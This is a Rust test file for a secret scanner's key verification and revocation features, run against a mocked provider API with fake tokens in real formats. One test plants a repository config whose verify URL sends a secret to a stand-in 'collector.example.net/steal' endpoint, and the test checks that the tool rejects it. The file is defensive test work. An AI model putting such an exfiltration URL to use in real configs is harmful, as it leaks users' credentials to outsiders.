//! `scan --verify` and `revoke` against a local mock of the providers' APIs over HTTPS (a test
//! CA trusted through `--verify-ca`, the providers' hosts pointed at it with
//! `--verify-connect-to`): live, dead, slow, failing and redirecting answers, AWS Signature
//! Version 4, the budget, the hosts contacted, and secrets kept out of every output. Every key
//! here is FAKE, made in the real shape with a marker the mock reads (LIVE, DEAD, SLOW, FAIL,
//! MOVE).

use std::path::{Path, PathBuf};
use std::process::{Child, Command};
use std::time::{Duration, Instant};

use crate::util::fakes::{Fakes, b62, crc32};
use crate::util::*;

const HOSTS: &[&str] = &[
    "api.github.com",
    "api.openai.com",
    "slack.com",
    "api.telegram.org",
    "api.anthropic.com",
    "api.stripe.com",
    "api.sendgrid.com",
    "sts.amazonaws.com",
    "api.twilio.com",
    "elsewhere.invalid",
];

struct Mock {
    child: Child,
    dir: tempfile::TempDir,
    port: u16,
}

impl Drop for Mock {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Mock {
    fn start() -> Mock {
        let dir = tempdir();
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/it/util/mock_providers.py");
        let child = Command::new(python())
            .arg(&script)
            .arg(dir.path())
            .args(HOSTS)
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let port_file = dir.path().join("port");
        let started = Instant::now();
        while !port_file.exists() {
            assert!(
                started.elapsed() < Duration::from_secs(30),
                "the mock did not start"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        let port = std::fs::read_to_string(&port_file)
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        Mock { child, dir, port }
    }

    fn ca(&self) -> PathBuf {
        self.dir.path().join("ca.pem")
    }

    /// `--verify-ca` and one `--verify-connect-to` per provider host (`addr` overrides where).
    fn args(&self, addr: Option<&str>) -> Vec<String> {
        let mut a = vec!["--verify-ca".to_string(), self.ca().display().to_string()];
        let to = addr
            .map(String::from)
            .unwrap_or(format!("127.0.0.1:{}", self.port));
        for h in HOSTS {
            a.push("--verify-connect-to".into());
            a.push(format!("{h}={to}"));
        }
        a
    }

    fn requests(&self) -> Vec<String> {
        std::fs::read_to_string(self.dir.path().join("requests.log"))
            .unwrap_or_default()
            .lines()
            .map(String::from)
            .collect()
    }
}

fn github(marker: &str, f: &mut Fakes) -> String {
    let body = format!("FAKE{marker}{}", f.s(crate::util::fakes::B62, 22));
    format!("ghp_{body}{}", b62(crc32(body.as_bytes()), 6))
}

struct Planted {
    gh_live: String,
    gh_dead: String,
    slack_live: String,
    slack_dead: String,
    telegram_live: String,
    anthropic_fail: String,
    stripe_move: String,
    sendgrid_slow: String,
    aws_id: String,
    aws_secret: String,
    aws_lonely: String,
    twilio_live: String,
    twilio_alone: String,
}

impl Planted {
    fn all(&self) -> Vec<&str> {
        vec![
            &self.gh_live,
            &self.gh_dead,
            &self.slack_live,
            &self.slack_dead,
            &self.telegram_live,
            &self.anthropic_fail,
            &self.stripe_move,
            &self.sendgrid_slow,
            &self.aws_secret,
            &self.aws_lonely,
            &self.twilio_live,
            &self.twilio_alone,
        ]
    }
}

/// A repository with FAKE keys of every kind the mock answers for, committed.
fn plant(d: &Path, mock: &Mock) -> Planted {
    use crate::util::fakes::{B62, URLSAFE};
    let mut f = Fakes::new(1717);
    let alnum = B62;
    let p = Planted {
        gh_live: github("LIVE", &mut f),
        gh_dead: github("DEAD", &mut f),
        slack_live: format!(
            "xoxb-{}-{}-LIVE{}",
            f.s(b"0123456789", 12),
            f.s(b"0123456789", 13),
            f.s(alnum, 20)
        ),
        slack_dead: format!(
            "xoxb-{}-{}-DEAD{}",
            f.s(b"0123456789", 12),
            f.s(b"0123456789", 13),
            f.s(alnum, 20)
        ),
        telegram_live: format!("7{}:AALIVE{}", f.s(b"0123456789", 9), f.s(URLSAFE, 29)),
        anthropic_fail: format!("sk-ant-api03-FAIL{}AA", f.s(URLSAFE, 89)),
        stripe_move: format!("sk_live_MOVE{}", f.s(alnum, 95)),
        sendgrid_slow: format!("SG.SLOW{}.{}", f.s(URLSAFE, 18), f.s(URLSAFE, 43)),
        aws_id: format!("AKIA{}", f.s(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)),
        aws_secret: f.s(
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
            40,
        ),
        aws_lonely: f.s(
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
            40,
        ),
        twilio_live: f.s(b"0123456789abcdef", 32),
        twilio_alone: f.s(b"0123456789abcdef", 32),
    };
    std::fs::write(
        mock.dir.path().join("verdicts.json"),
        format!("{{\"{}\": \"LIVE\"}}", p.twilio_live),
    )
    .unwrap();
    let sid = format!("AC{}", f.s(b"0123456789abcdef", 32));
    std::fs::write(
        mock.dir.path().join("aws.json"),
        format!("{{\"{}\": \"{}\"}}", p.aws_id, p.aws_secret),
    )
    .unwrap();
    init_repo(d);
    write(
        d,
        "config/keys.env",
        &format!(
            "# FAKE keys for the verification tests\nGITHUB_TOKEN={}\nOLD_GITHUB_TOKEN={}\nSLACK_BOT_TOKEN={}\nSLACK_OLD_TOKEN={}\nTELEGRAM_BOT_TOKEN={}\nANTHROPIC_API_KEY={}\nSTRIPE_SECRET_KEY={}\nSENDGRID_API_KEY={}\n",
            p.gh_live,
            p.gh_dead,
            p.slack_live,
            p.slack_dead,
            p.telegram_live,
            p.anthropic_fail,
            p.stripe_move,
            p.sendgrid_slow
        ),
    );
    write(
        d,
        "deploy/aws.env",
        &format!(
            "# FAKE\nAWS_ACCESS_KEY_ID={}\nAWS_SECRET_ACCESS_KEY={}\n",
            p.aws_id, p.aws_secret
        ),
    );
    write(
        d,
        "deploy/lonely.env",
        &format!("# FAKE\nAWS_SECRET_ACCESS_KEY={}\n", p.aws_lonely),
    );
    write(
        d,
        "src/sms.py",
        &format!(
            "# FAKE\ntwilio_client = Client(\"{sid}\", auth_token=\"{}\")\nTWILIO_AUTH_TOKEN = \"{}\"\n",
            p.twilio_live, p.twilio_alone
        ),
    );
    commit_all(d, "keys", 1_700_000_000);
    p
}

fn by_secret<'a>(
    v: &'a serde_json::Value,
    rule: &str,
    line: u64,
    path: &str,
) -> &'a serde_json::Value {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| {
            f["rule_id"] == rule
                && f["locations"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|l| l["path"] == path && l["line"] == line)
        })
        .unwrap_or_else(|| panic!("{rule} at {path}:{line} in {v}"))
}

#[test]
#[ignore = "needs the Python HTTPS mock; run scripts/test.sh"]
fn verify_reports_live_dead_and_unknown_within_the_budget_and_only_asks_the_packs_hosts() {
    let mock = Mock::start();
    let dir = tempdir();
    let d = dir.path();
    let planted = plant(d, &mock);
    let mut args: Vec<String> = [
        "scan",
        "--history",
        "--format",
        "json",
        "--verify",
        "--verify-timeout",
        "3",
        "--verify-budget",
        "10",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    args.extend(mock.args(None));
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let started = Instant::now();
    let run = keywarden(d, &argv);
    let took = started.elapsed();
    assert_eq!(run.code, 1, "{}", run.all());
    assert!(
        took < Duration::from_secs(20),
        "a slow provider cannot stall the scan: {took:?}"
    );
    assert_no_secret(&run, &planted.all());
    let v = json(&run);
    let keys = "config/keys.env";
    let check = |rule: &str, path: &str, line: u64, live: Option<bool>, reason: &str| {
        let f = by_secret(&v, rule, line, path);
        assert_eq!(f["verified"].as_bool(), live, "{rule}:{line}: {f}");
        let why = f["verification"].as_str().unwrap_or_default();
        assert!(
            why.contains(reason),
            "{rule}:{line}: {why:?} should say {reason:?}"
        );
        f.clone()
    };
    let live = check("github-token", keys, 2, Some(true), "200 from the provider");
    assert_eq!(live["severity"], "critical");
    assert!(
        live["rotate"][0]
            .as_str()
            .unwrap()
            .starts_with("Revoke now"),
        "{live}"
    );
    let dead = check("github-token", keys, 3, Some(false), "401");
    assert_eq!(
        dead["severity"], "high",
        "a dead key is one level lower than critical"
    );
    check("slack-token", keys, 4, Some(true), "200");
    check("slack-token", keys, 5, Some(false), "rejected");
    check("telegram-bot-token", keys, 6, Some(true), "200");
    check("anthropic-api-key", keys, 7, None, "500");
    check("stripe-live-secret-key", keys, 8, None, "not followed");
    check("sendgrid-api-key", keys, 9, None, "timeout");
    check(
        "aws-secret-access-key",
        "deploy/aws.env",
        3,
        Some(true),
        "200",
    );
    check(
        "aws-secret-access-key",
        "deploy/lonely.env",
        2,
        None,
        "paired access key id",
    );
    check("twilio-api-key", "src/sms.py", 2, Some(true), "200");
    check("twilio-api-key", "src/sms.py", 3, None, "paired account id");

    let hosts: Vec<String> = mock
        .requests()
        .iter()
        .map(|l| l.split(' ').next().unwrap().to_string())
        .collect();
    assert!(!hosts.is_empty());
    for h in &hosts {
        assert!(
            HOSTS.contains(&h.as_str()) && h != "elsewhere.invalid",
            "request to {h}"
        );
    }
    let requests = mock.requests();
    assert_eq!(
        requests
            .iter()
            .filter(|l| l.starts_with("api.github.com"))
            .count(),
        2,
        "one request per unique secret: {requests:?}"
    );

    // --only-verified keeps the live ones.
    let mut only = args.clone();
    only.push("--only-verified".into());
    let argv: Vec<&str> = only.iter().map(String::as_str).collect();
    let run = keywarden(d, &argv);
    let v = json(&run);
    assert!(
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["verified"] == true),
        "{v}"
    );
    assert_eq!(v["findings"].as_array().unwrap().len(), 5, "{v}");
}

#[test]
#[ignore = "needs the Python HTTPS mock; run scripts/test.sh"]
fn without_a_network_verify_says_why_and_keeps_the_exit_code() {
    let mock = Mock::start();
    let dir = tempdir();
    let d = dir.path();
    let planted = plant(d, &mock);
    let plain = keywarden(d, &["scan", ".", "--format", "json"]);
    let mut args: Vec<String> = [
        "scan",
        ".",
        "--format",
        "json",
        "--verify",
        "--verify-timeout",
        "2",
        "--verify-budget",
        "5",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    // Every provider host points at a closed port.
    args.extend(mock.args(Some("127.0.0.1:1")));
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let started = Instant::now();
    let run = keywarden(d, &argv);
    assert!(started.elapsed() < Duration::from_secs(15));
    assert_eq!(run.code, plain.code, "{}", run.all());
    assert_no_secret(&run, &planted.all());
    let v = json(&run);
    let f = by_secret(&v, "github-token", 2, "config/keys.env");
    assert_eq!(f["verified"], serde_json::Value::Null);
    assert!(
        f["verification"]
            .as_str()
            .unwrap()
            .contains("network unreachable"),
        "{f}"
    );
}

#[test]
fn a_repository_config_cannot_declare_where_secrets_are_sent() {
    let dir = tempdir();
    let d = dir.path();
    write(
        d,
        ".keywarden.yaml",
        "rules:\n  - id: exfil\n    name: Exfil\n    severity: high\n    keywords: [tok_]\n    pattern: '(?P<secret>tok_[a-z0-9]{20})'\n    examples: ['tok_abcdefghij0123456789']\n    rotate:\n      steps: [rotate it]\n    verify:\n      url: https://collector.example.net/steal?k={secret}\n      live: [200]\n",
    );
    let run = keywarden(d, &["scan", ".", "--verify"]);
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(
        run.stderr
            .contains("only the built-in packs may send a secret"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains(".keywarden.yaml"), "{}", run.stderr);
}

#[test]
#[ignore = "needs the Python HTTPS mock; run scripts/test.sh"]
fn revoke_is_a_dry_run_until_apply_and_then_uses_the_providers_api() {
    let mock = Mock::start();
    let dir = tempdir();
    let d = dir.path();
    let planted = plant(d, &mock);
    let scan = keywarden(d, &["scan", ".", "--format", "json"]);
    let v = json(&scan);
    let fp = |path: &str, line: u64, rule: &str| {
        by_secret(&v, rule, line, path)["fingerprint"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let gh = fp("config/keys.env", 2, "github-token");
    let slack = fp("config/keys.env", 4, "slack-token");
    let anthropic = fp("config/keys.env", 7, "anthropic-api-key");
    let mut base: Vec<String> = vec!["revoke".into(), gh, slack, anthropic];
    base.extend(mock.args(None));
    let argv: Vec<&str> = base.iter().map(String::as_str).collect();
    let dry = keywarden(d, &argv);
    assert_eq!(dry.code, 0, "{}", dry.all());
    assert!(
        dry.stdout.contains("dry run: nothing was sent"),
        "{}",
        dry.stdout
    );
    assert!(
        dry.stdout
            .contains("https://api.github.com/credentials/revoke"),
        "{}",
        dry.stdout
    );
    assert!(
        dry.stdout.contains("offers no revocation API"),
        "anthropic: the page instead: {}",
        dry.stdout
    );
    assert!(
        mock.requests().is_empty(),
        "a dry run sends nothing: {:?}",
        mock.requests()
    );

    let mut apply = base.clone();
    apply.push("--apply".into());
    let argv: Vec<&str> = apply.iter().map(String::as_str).collect();
    let run = keywarden(d, &argv);
    assert_eq!(run.code, 0, "{}", run.all());
    assert_eq!(run.stdout.matches(": revoked").count(), 2, "{}", run.stdout);
    assert_no_secret(&run, &planted.all());
    let requests = mock.requests();
    assert!(
        requests
            .iter()
            .any(|l| l == "api.github.com POST /credentials/revoke"),
        "{requests:?}"
    );
    assert!(
        requests
            .iter()
            .any(|l| l == "slack.com POST /api/auth.revoke"),
        "{requests:?}"
    );
    assert!(
        !requests.iter().any(|l| l.starts_with("api.anthropic.com")),
        "{requests:?}"
    );

    let unknown = keywarden(d, &["revoke", &"0".repeat(64)]);
    assert_eq!(unknown.code, 2, "{}", unknown.all());
}

/// Issue #25 (lesser): `HTTPS_PROXY` silently overrode `--verify-connect-to`; now the mapped
/// address is used and a warning says the proxy is not.
#[test]
#[ignore = "needs the Python HTTPS mock; run scripts/test.sh"]
fn verify_connect_to_wins_over_a_proxy_in_the_environment_and_says_so() {
    let mock = Mock::start();
    let dir = tempdir();
    let d = dir.path();
    init_repo(d);
    let mut f = Fakes::new(2641);
    let live = github("LIVE", &mut f);
    write(d, "c.py", &format!("# FAKE\nTOKEN = \"{live}\"\n"));
    commit_all(d, "t", 1_700_000_000);
    let mut args: Vec<String> = [
        "scan",
        ".",
        "--format",
        "json",
        "--verify",
        "--verify-timeout",
        "3",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    args.extend(mock.args(None));
    let out = Command::new(bin())
        .args(&args)
        .current_dir(d)
        .env("HTTPS_PROXY", "http://127.0.0.1:9")
        .env("ALL_PROXY", "http://127.0.0.1:9")
        .output()
        .unwrap();
    let run: Run = out.into();
    assert_eq!(run.code, 1, "{}", run.all());
    assert!(
        run.stderr.contains("proxy from the environment"),
        "{}",
        run.stderr
    );
    assert_eq!(
        json(&run)["findings"][0]["verified"],
        true,
        "{}",
        run.stdout
    );
    assert_no_secret(&run, &[&live]);
}
